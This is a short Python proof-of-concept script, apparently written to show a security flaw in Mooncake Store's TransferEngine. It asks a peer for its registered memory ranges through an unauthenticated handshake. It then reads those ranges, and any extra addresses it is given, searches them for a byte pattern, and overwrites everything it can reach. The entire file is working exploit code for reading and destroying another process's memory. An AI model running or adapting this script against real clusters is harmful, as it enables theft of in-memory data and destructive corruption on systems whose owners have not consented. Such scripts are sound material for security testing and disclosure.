"""Another user of a Mooncake Store's network, with Mooncake's own TransferEngine and no secret.

``python intruder.py PORT NEEDLE [ADDRESS BYTES]...`` finds out which memory the client that shakes hands on PORT lets
peers reach, and reads it; then it does so with the ranges that are told. What it can read it overwrites. It prints
JSON: the bytes read, how often NEEDLE (hexadecimal) was among them, the bytes written.
"""

from __future__ import annotations

import json
import socket
import struct
import sys

import numpy as np

HOST = "127.0.0.1"
METADATA = 1
"""The kind of handshake that asks for the ranges."""
CHUNK_BYTES = 4 << 20
OVERWRITTEN = 0xEE


def registered(port: int) -> list[tuple[int, int]]:
    with socket.create_connection((HOST, port), 5.0) as connection:
        body = b"{}"
        connection.sendall(struct.pack("<QB", len(body) + 1, METADATA) + body)
        with connection.makefile("rb") as reader:
            (size,) = struct.unpack("<Q", reader.read(8))
            answer = json.loads(reader.read(size)[1:])
    return [(each["addr"], each["length"]) for each in answer["buffers"]]


def main(port: int, needle: bytes, told: list[int]) -> dict[str, int]:
    from mooncake.engine import TransferEngine

    engine = TransferEngine()
    assert engine.initialize(HOST, "P2PHANDSHAKE", "tcp", "") == 0
    memory = np.zeros(CHUNK_BYTES + len(needle), dtype=np.uint8)
    assert engine.register_memory(memory.ctypes.data, memory.nbytes) == 0
    target, buffer = f"{HOST}:{port}", memory.ctypes.data
    found = {"read": 0, "found": 0, "written": 0}
    for address, nbytes in [*registered(port), *zip(told[::2], told[1::2], strict=True)]:
        for at in range(address, address + nbytes, CHUNK_BYTES):
            # Chunks overlap, so that the needle is not cut.
            size = min(memory.nbytes, address + nbytes - at)
            if engine.transfer_sync_read(target, buffer, at, size):
                continue
            found["read"] += size
            found["found"] += memory[:size].tobytes().count(needle)
        memory[:] = OVERWRITTEN
        for at in range(address, address + nbytes, CHUNK_BYTES):
            size = min(CHUNK_BYTES, address + nbytes - at)
            if engine.transfer_sync_write(target, buffer, at, size) == 0:
                found["written"] += size
    return found


if __name__ == "__main__":
    print(json.dumps(main(int(sys.argv[1]), bytes.fromhex(sys.argv[2]), [int(each) for each in sys.argv[3:]])))
